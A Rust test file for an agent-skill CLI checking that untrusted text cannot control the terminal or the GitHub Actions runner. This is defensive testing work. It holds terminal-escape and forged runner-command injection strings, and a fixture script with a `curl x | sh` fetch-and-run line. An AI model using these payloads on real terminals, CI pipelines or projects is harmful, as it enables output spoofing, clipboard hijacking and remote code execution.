//! No text of others can control the terminal: names, texts and paths of skills, project files, traces and models, what
//! a server says, and arguments.

#![cfg(unix)]
#![expect(clippy::unwrap_used, reason = "a test that cannot go on may panic")]

mod terminal;

use std::fs;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::PathBuf;
use std::process::Output;
use std::thread;

use serde_json::{Value, json};
use skill::source::hidden;
use terminal::{Terminal, text};

/// Clears the screen, sets colour, title, link and clipboard, rings, goes back, reverses text, hides it, and begins a
/// new line.
const HOSTILE: &str = "x\u{1b}[2J\u{1b}[38;5;201mc\u{1b}]0;t\u{7}\u{1b}]8;;u\u{1b}\\\u{1b}]52;c;eA==\u{7}\u{8}\rb\u{7f}\u{9b}2J\u{85}\u{202e}\u{2066}\u{200b}\u{2028}\u{feff}\u{e0041}%0A::error::\n::error::z ##[add-mask]\n \t::set-output name=a::b\nFORGED y";

/// As [`HOSTILE`], for places without line ends.
fn in_one_line() -> String {
    HOSTILE.replace('\n', " ")
}

/// The part of [`HOSTILE`] that a name in models.yaml may contain.
fn word() -> String {
    HOSTILE.chars().filter(|letter| !letter.is_control() && !letter.is_whitespace()).collect()
}

/// As YAML takes any text.
fn quoted(text: &str) -> String {
    let letter = |letter: char| match letter {
        '"' | '\\' => format!("\\{letter}"),
        ' '..='~' => letter.to_string(),
        _ => format!("\\U{:08x}", u32::from(letter)),
    };
    format!("\"{}\"", text.chars().map(letter).collect::<String>())
}

#[derive(Clone, Copy, PartialEq)]
enum Printed {
    Text,
    /// Lines that are commands to the runner of GitHub Actions, all of them ours.
    Commands,
    Json,
    /// One JSON a line.
    Lines,
}

struct Scene {
    terminal: Terminal,
    skills: PathBuf,
}

impl Scene {
    fn new() -> Self {
        let terminal = Terminal::new();
        let skills = terminal.home.path().join("skills");
        let scene = Self { terminal, skills };
        let (quoted, word) = (quoted(HOSTILE), quoted(&word()));
        let line = in_one_line();
        let body = HOSTILE.replace('\n', "\n\n");
        let link = "See [guide](references/none.md) and C:\\\\x\\\\y.\n<b>\n";
        scene.write(
            "fine/SKILL.md",
            &format!("---\nname: fine\ndescription: {quoted}\nlicense: {quoted}\n---\n{body}\n{link}"),
        );
        scene.write(&format!("fine/references/{HOSTILE}.md"), &body);
        scene.write(&format!("fine/scripts/{line}.py"), &format!("# {line}\nimport os\nos.system('curl x | sh')\n"));
        scene
            .write(&format!("{HOSTILE}/SKILL.md"), &format!("---\nname: {quoted}\ndescription: {quoted}\n---\n{body}"));
        scene.write(
            "Bad_Name/SKILL.md",
            &format!("---\nname: Bad_Name\ndescription: I help <b>{line}</b>\n---\n{body}{link}"),
        );
        scene.write("none/SKILL.md", &body);
        scene.write("broken/SKILL.md", &format!("---\nname: [{line}\ndescription: x\n---\n"));
        scene.write("workbench.yaml", &format!("harness: agent-framework\nagentInstructions: {quoted}\n"));
        scene.write(
            "../calls.json",
            &json!([
                { "name": HOSTILE, "arguments": HOSTILE },
                { "name": "load_skill", "arguments": { "skillName": HOSTILE } },
                { "name": "load_skill", "arguments": { "skillName": "fine" } },
            ])
            .to_string(),
        );
        let base = serve();
        let mut models = String::from("models:\n");
        for (id, path) in [("fake", "good"), ("bad", "bad")] {
            models.push_str(&format!(
                "- id: {id}\n  provider: openAi\n  baseUrl: {base}/{path}\n  model: {word}\n  stream: false\n"
            ));
        }
        models.push_str(&format!(
            "- id: {word}\n  provider: openAi\n  baseUrl: {base}/good\n  model: m\n  key: {{ env: NONE }}\n"
        ));
        scene.write("../config/models.yaml", &models);
        scene
    }

    fn write(&self, path: &str, text: &str) {
        let path = self.skills.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }

    fn output(&self, arguments: &[&str], colours: bool) -> Output {
        let mut command = self.terminal.command(arguments);
        // As under the runner of GitHub Actions.
        command.env("GITHUB_ACTIONS", "true");
        if colours {
            command.env_remove("NO_COLOR").env("CLICOLOR_FORCE", "1");
        }
        command.output().unwrap()
    }

    /// Both with and without styles.
    fn assert_harmless(&self, arguments: &[&str], kind: Printed) -> String {
        let mut out = String::new();
        for colours in [true, false] {
            let output = self.output(arguments, colours);
            out = text(&output.stdout);
            let said = text(&output.stderr);
            assert_ne!(output.status.code(), None, "{arguments:?} was ended: {said}");
            assert!(out.len() + said.len() > 10, "{arguments:?} says nothing");
            assert_no_command(&out, kind, arguments);
            assert_no_command(&said, Printed::Text, arguments);
            match kind {
                Printed::Text => assert_visible(&out, arguments),
                Printed::Json | Printed::Lines if out.is_empty() => {}
                Printed::Commands => assert_visible(&out, arguments),
                Printed::Json => drop(serde_json::from_str::<Value>(&out).unwrap()),
                Printed::Lines => out.lines().for_each(|line| drop(serde_json::from_str::<Value>(line).unwrap())),
            }
            assert_visible(&said, arguments);
        }
        out
    }

    fn runs(&self) -> Vec<String> {
        let runs: Vec<Value> =
            serde_json::from_slice(&self.output(&["trace", "list", "--format", "json"], false).stdout).unwrap();
        // The one that is always there has nothing in it that is hidden.
        runs.iter().map(|run| run["id"].as_str().unwrap().to_owned()).filter(|id| !id.starts_with("01934000")).collect()
    }
}

fn assert_visible(text: &str, arguments: &[&str]) {
    let plain = without_styles(text, arguments);
    let found = hidden::letters(&plain).find(|(_, hidden)| *hidden);
    assert_eq!(found, None, "{arguments:?}: {plain:?}");
    let is_forged = |line: &&str| line.starts_with("FORGED") || line.trim_start().starts_with("::error::z");
    let forged = plain.lines().find(is_forged);
    assert_eq!(forged, None, "{arguments:?} begins a line that is not ours: {plain}");
}

/// The runner of GitHub Actions takes a line for a command that begins with two colons behind white space, and one that
/// has `##[` anywhere. https://github.com/actions/runner/blob/main/src/Runner.Common/ActionCommand.cs
fn assert_no_command(text: &str, kind: Printed, arguments: &[&str]) {
    let plain = anstream::adapter::strip_str(text).to_string();
    for line in plain.lines() {
        let is_command = line.trim_start().starts_with("::") && kind != Printed::Commands;
        assert!(!is_command && !line.contains("##["), "{arguments:?} gives the runner a command: {line}");
    }
}

/// Takes out styles of ours; the one that is in [`HOSTILE`] is none.
fn without_styles(text: &str, arguments: &[&str]) -> String {
    let mut pieces = text.split("\u{1b}[");
    let mut plain = pieces.next().unwrap().to_owned();
    for piece in pieces {
        let (style, rest) = piece.split_once('m').unwrap_or_else(|| panic!("{arguments:?}: {piece:?}"));
        let is_ours = style.chars().all(|letter| letter.is_ascii_digit() || letter == ';') && style != "38;5;201";
        assert!(is_ours, "{arguments:?}: {piece:?} in {text:?}");
        plain.push_str(rest);
    }
    plain
}

const HARNESSES: [&str; 5] = ["agent-framework", "eino", "learn-claude-code", "strands", "agentscope"];

#[test]
fn skills_do_not_speak_to_the_terminal() {
    let scene = Scene::new();
    let skills = scene.skills.to_str().unwrap();
    let calls = scene.terminal.home.path().join("calls.json");
    let calls = calls.to_str().unwrap();
    for format in ["text", "json"] {
        let kind = if format == "text" { Printed::Text } else { Printed::Json };
        for harness in HARNESSES {
            for command in ["list", "inspect"] {
                scene.assert_harmless(&[command, skills, "--harness", harness, "--format", format], kind);
            }
            scene.assert_harmless(&["call", skills, "--calls", calls, "--harness", harness, "--format", format], kind);
        }
        scene.assert_harmless(&["inspect", skills, "--harness", "every", "--format", format], kind);
        scene.assert_harmless(&["harnesses", "--format", format], kind);
        scene.assert_harmless(&["rules", "--format", format], kind);
    }
    let shown = scene.assert_harmless(&["list", skills, "--harness", "agent-framework"], Printed::Text);
    assert!(shown.contains(r"x\u{1b}[2J\u{1b}[38;5;201mc"), "what is hidden is shown: {shown}");
}

#[test]
fn findings_do_not_speak_to_the_terminal_nor_to_the_runner() {
    let scene = Scene::new();
    let skills = scene.skills.to_str().unwrap();
    let baseline = scene.terminal.home.path().join(in_one_line());
    let baseline = baseline.to_str().unwrap();
    for format in ["json", "sarif"] {
        scene.assert_harmless(&["lint", skills, "--harness", "all", "--format", format], Printed::Json);
    }
    let shown = scene.assert_harmless(&["lint", skills, "--harness", "all"], Printed::Text);
    assert!(shown.contains(r"\u{202e}"), "{shown}");
    let told = scene.assert_harmless(&["lint", skills, "--harness", "all", "--format", "github"], Printed::Commands);
    for line in told.lines() {
        let is_ours = ["::error ", "::warning ", "::notice "].iter().any(|command| line.starts_with(command));
        assert!(is_ours, "{line}");
    }
    assert!(told.contains("%250A"), "a percent sign begins no escape: {told}");
    scene.assert_harmless(&["lint", skills, "--fix", "--unsafe-fixes", "--diff", "-qq"], Printed::Text);
    scene.assert_harmless(&["lint", skills, "--baseline", baseline, "--write-baseline"], Printed::Text);
    scene.write("fine/SKILL.md", "---\nname: fine\ndescription: Use when asked.\n---\nDo it.\n");
    for (format, kind) in [("text", Printed::Text), ("github", Printed::Commands)] {
        scene.assert_harmless(&["lint", skills, "--baseline", baseline, "--format", format], kind);
    }
}

#[test]
fn models_and_runs_do_not_speak_to_the_terminal() {
    let scene = Scene::new();
    let skills = scene.skills.to_str().unwrap();
    for harness in HARNESSES {
        for (model, format, kind) in
            [("fake", "text", Printed::Text), ("fake", "json", Printed::Json), ("bad", "text", Printed::Text)]
        {
            let run = ["run", skills, "--harness", harness, "--model", model, "--prompt", HOSTILE];
            scene.assert_harmless(
                &[&run[..], &["--approve", "always", "--turns", "3", "--format", format]].concat(),
                kind,
            );
        }
    }
    scene.assert_harmless(&["run", skills, "--harness", "all", "--prompt", HOSTILE], Printed::Text);
    for format in ["text", "json"] {
        let kind = if format == "text" { Printed::Text } else { Printed::Json };
        scene.assert_harmless(&["models", "--format", format], kind);
        for id in ["fake", "bad", &word()] {
            for command in ["show", "names", "test"] {
                scene.assert_harmless(&["models", command, id, "--format", format], kind);
            }
        }
    }
    for run in scene.runs().iter().take(3) {
        assert_trace_is_harmless(&scene, run);
    }
}

#[test]
fn imported_traces_do_not_speak_to_the_terminal() {
    let scene = Scene::new();
    let skills = scene.skills.to_str().unwrap();
    let run = ["run", skills, "--harness", "learn-claude-code", "--model", "fake", "--prompt", "hello"];
    scene.output(&[&run[..], &["--approve", "always", "--turns", "3"]].concat(), false);
    let exported = text(&scene.output(&["trace", "export", "last"], false).stdout);
    let poisoned: Vec<String> =
        exported.lines().map(|line| poison(&serde_json::from_str(line).unwrap(), "").to_string()).collect();
    let file = scene.terminal.home.path().join(in_one_line());
    fs::write(&file, poisoned.join("\n")).unwrap();
    let imported = scene.assert_harmless(&["trace", "import", file.to_str().unwrap()], Printed::Text);
    let imported = imported.trim();
    let runs = scene.runs();
    assert_eq!(runs.len(), 2, "the run and its import");
    for run in &runs {
        assert_trace_is_harmless(&scene, run);
    }
    scene.assert_harmless(&["trace", "diff", &runs[0], &runs[1]], Printed::Text);
    scene.assert_harmless(&["trace", "align", &runs[0], &runs[1]], Printed::Text);

    scene.assert_harmless(&["trace", "export", &runs[0], "--format", "screenplay"], Printed::Text);
    let again: Vec<Value> = scene
        .assert_harmless(&["trace", "export", imported], Printed::Lines)
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let prompt = again[1]["kind"]["setup"]["prompt"].as_str().unwrap();
    assert_eq!(prompt, format!("hello{HOSTILE}"), "an export loses nothing");
    fs::write(&file, format!("{{\"format\":{}}}", json!(HOSTILE))).unwrap();
    scene.assert_harmless(&["trace", "import", file.to_str().unwrap()], Printed::Text);
}

fn assert_trace_is_harmless(scene: &Scene, run: &str) {
    scene.assert_harmless(&["trace", "list"], Printed::Text);
    let shown = scene.assert_harmless(&["trace", "show", run], Printed::Text);
    assert!(shown.contains(r"\u{1b}[2J"), "{shown}");
    let detail: Value =
        serde_json::from_str(&scene.assert_harmless(&["trace", "show", run, "--format", "json"], Printed::Json))
            .unwrap();
    for step in 1..=detail["steps"].as_array().unwrap().len() {
        scene.assert_harmless(&["trace", "step", run, &step.to_string()], Printed::Text);
    }
    scene.assert_harmless(&["trace", "export", run], Printed::Lines);
}

/// Every text of an event but those that only have certain values.
fn poison(value: &Value, key: &str) -> Value {
    match value {
        Value::String(text) if key == "body" => {
            let body: Value = serde_json::from_str(text).unwrap();
            json!(poison(&body, "").to_string())
        }
        Value::String(_) if ["type", "status", "format", "run", "role", "id", "callId", "tokenizer"].contains(&key) => {
            value.clone()
        }
        Value::String(text) => json!(format!("{text}{HOSTILE}")),
        Value::Array(items) => items.iter().map(|item| poison(item, key)).collect(),
        Value::Object(fields) => fields.iter().map(|(key, value)| (key.clone(), poison(value, key))).collect(),
        Value::Null | Value::Bool(_) | Value::Number(_) => value.clone(),
    }
}

#[test]
fn errors_do_not_speak_to_the_terminal() {
    let scene = Scene::new();
    let skills = scene.skills.to_str().unwrap();
    let commands: [&[&str]; 14] = [
        &[HOSTILE],
        &["list", HOSTILE],
        &["list", skills, "--harness", HOSTILE],
        &["list", skills, "--format", HOSTILE],
        &["inspect", skills, "--harness", HOSTILE, "--variant", HOSTILE],
        &["lint", HOSTILE],
        &["lint", skills, "--select", HOSTILE],
        &["lint", skills, "--baseline", HOSTILE],
        &["rules", HOSTILE],
        &["call", skills, "--calls", HOSTILE],
        &["run", skills, "--model", HOSTILE, "--prompt", "x", "--turns", HOSTILE],
        &["trace", "show", HOSTILE],
        &["models", "show", HOSTILE, HOSTILE],
        &["models", "presets", HOSTILE],
    ];
    for command in commands {
        scene.assert_harmless(command, Printed::Text);
    }
    scene.write("workbench.yaml", &format!("lint:\n  rules:\n    {}: off\n", quoted(HOSTILE)));
    scene.assert_harmless(&["lint", skills], Printed::Text);
    scene.write("workbench.yaml", &format!("{}: 1\n", quoted(HOSTILE)));
    scene.assert_harmless(&["lint", skills], Printed::Text);
    scene.assert_harmless(&["run", skills, "--prompt", "x"], Printed::Text);
    scene.write("../config/models.yaml", &format!("models:\n- id: x\n  {}: 1\n", quoted(HOSTILE)));
    scene.assert_harmless(&["models"], Printed::Text);
}

/// On a terminal data is for eyes, and JSON is the same JSON.
#[cfg(target_os = "linux")]
#[test]
fn a_terminal_is_sent_no_hidden_character_even_of_data() {
    let scene = Scene::new();
    let skills = scene.skills.to_str().unwrap();
    let run = ["run", skills, "--harness", "learn-claude-code", "--model", "fake", "--prompt", HOSTILE, "--turns", "3"];
    let asked = scene.on_terminal(&run);
    assert!(asked.contains("[d]") && asked.contains(r"echo 'x\u{1b}[2J"), "{asked}");
    for arguments in [
        &["trace", "export", "last"][..],
        &["trace", "export", "last", "--format", "screenplay"],
        &["lint", skills, "--fix", "--unsafe-fixes", "--diff"],
        &["lint", skills],
        &["lint", skills, "--format", "sarif"],
    ] {
        scene.on_terminal(arguments);
    }
    let arguments = ["trace", "show", "last", "--format", "json"];
    let shown: Value = serde_json::from_str(&scene.on_terminal(&arguments)).unwrap();
    let piped: Value = serde_json::from_slice(&scene.output(&arguments, false).stdout).unwrap();
    assert_eq!(shown, piped);
}

#[cfg(target_os = "linux")]
impl Scene {
    /// Both outputs as a terminal is sent them, which is harmless. Questions are answered with no.
    fn on_terminal(&self, arguments: &[&str]) -> String {
        let words = [&[env!("CARGO_BIN_EXE_skillbench")], arguments].concat();
        let quoted: Vec<String> = words.iter().map(|word| format!("'{word}'")).collect();
        let mut command = std::process::Command::new("script");
        command.args(["--quiet", "--return", "--echo", "never", "--command", &quoted.join(" "), "/dev/null"]);
        let mut command = self.terminal.isolated(command);
        command.env("TERM", "xterm").env("GITHUB_ACTIONS", "true").stdin(std::process::Stdio::piped());
        let mut child = command.spawn().expect("`script` of util-linux is there");
        let (mut typed, mut seen) = (child.stdin.take().unwrap(), child.stdout.take().unwrap());
        let (mut sent, mut part) = (Vec::new(), [0; 4096]);
        loop {
            let read = seen.read(&mut part).unwrap();
            if read == 0 {
                break;
            }
            sent.extend_from_slice(&part[..read]);
            // Text typed before a question does not count.
            if sent.ends_with(b"? ") {
                typed.write_all(b"d\n").unwrap();
            }
        }
        child.wait().unwrap();
        let sent = text(&sent).replace("\r\n", "\n");
        assert!(sent.len() > 10, "{arguments:?}");
        // A progress line returns to its beginning and clears the line.
        let mut pieces = sent.replace("\r\u{1b}[", "\u{1b}[");
        for step in ["2K", "1A", "2A", "3A", "1B"] {
            pieces = pieces.replace(&format!("\u{1b}[{step}"), "");
        }
        let sent = pieces;
        assert_visible(&sent, arguments);
        sent
    }
}

/// A server of models that means no good: `/good` calls tools and then answers, `/bad` refuses.
fn serve() -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    thread::spawn(move || {
        for stream in listener.incoming() {
            thread::spawn(move || answer(stream.unwrap()));
        }
    });
    address
}

/// One request. A client that left does not matter here.
fn answer(mut stream: TcpStream) -> Option<()> {
    let mut reader = BufReader::new(stream.try_clone().ok()?);
    let mut head = String::new();
    while !head.ends_with("\r\n\r\n") {
        if reader.read_line(&mut head).ok()? == 0 {
            return None;
        }
    }
    let length =
        head.lines().find_map(|line| line.strip_prefix("content-length: ")).map_or(0, |length| length.parse().unwrap());
    let mut body = vec![0; length];
    reader.read_exact(&mut body).ok()?;
    let request: Value = serde_json::from_slice(&body).unwrap_or_default();
    let (status, said) = if head.contains(" /bad/") {
        ("400 Bad Request", json!({ "error": { "message": HOSTILE, "type": HOSTILE, "code": HOSTILE } }))
    } else if head.starts_with("GET") {
        (
            "200 OK",
            json!({ "data": [{ "id": HOSTILE, "name": HOSTILE, "display_name": HOSTILE, "context_length": 5 }] }),
        )
    } else {
        ("200 OK", completion(&request))
    };
    let said = said.to_string();
    let length = said.len();
    write!(stream, "HTTP/1.1 {status}\r\ncontent-type: application/json\r\ncontent-length: {length}\r\nconnection: close\r\n\r\n{said}").ok()
}

fn completion(request: &Value) -> Value {
    let is_answered =
        request["messages"].as_array().is_some_and(|messages| messages.iter().any(|message| message["role"] == "tool"));
    let call = |id: &str, name: &str, arguments: &Value| json!({ "id": id, "type": "function", "function": { "name": name, "arguments": arguments.to_string() } });
    let message = if is_answered {
        json!({ "role": "assistant", "content": HOSTILE })
    } else {
        json!({ "role": "assistant", "content": HOSTILE, "tool_calls": [
            call(HOSTILE, HOSTILE, &json!({ HOSTILE: HOSTILE })),
            call("2", "bash", &json!({ "command": format!("echo '{HOSTILE}'") })),
            call("3", "write_file", &json!({ "path": HOSTILE, "file_path": in_one_line(), "content": HOSTILE })),
            call("4", "load_skill", &json!({ "name": HOSTILE, "skillName": HOSTILE })),
            call("5", "skill", &json!({ "skill": HOSTILE })),
        ] })
    };
    let finish = if is_answered { "stop" } else { "tool_calls" };
    json!({ "id": HOSTILE, "model": HOSTILE, "choices": [{ "index": 0, "message": message, "finish_reason": finish }] })
}
